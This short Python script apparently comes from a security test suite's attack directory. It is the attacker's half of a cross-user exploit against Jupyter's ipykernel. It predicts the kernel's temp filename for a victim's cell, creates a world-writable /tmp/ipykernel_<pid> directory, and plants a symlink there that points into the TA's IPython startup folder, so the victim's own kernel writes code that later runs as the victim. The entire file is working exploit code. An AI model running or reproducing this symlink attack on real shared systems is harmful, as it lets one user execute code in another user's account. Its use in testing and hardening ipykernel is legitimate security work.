"""Student side (uid 1001): plants /tmp/ipykernel_<pid>/<murmur2(her cell)>.py -> the TA's IPython startup folder."""
import os, sys
sys.path.insert(0, "CLONE/.venv/lib/python3.11/site-packages")
from ipykernel.compiler import murmur2_x86, get_tmp_hash_seed
pid, target = sys.argv[1], sys.argv[2]
cell = open("tests/attacks/round52/user/a06b_mallory_cell.py").read()
d = f"/tmp/ipykernel_{pid}"; os.mkdir(d); os.chmod(d, 0o777)
link = f"{d}/{murmur2_x86(cell, get_tmp_hash_seed())}.py"
os.symlink(target, link); print("planted", link, "->", target)
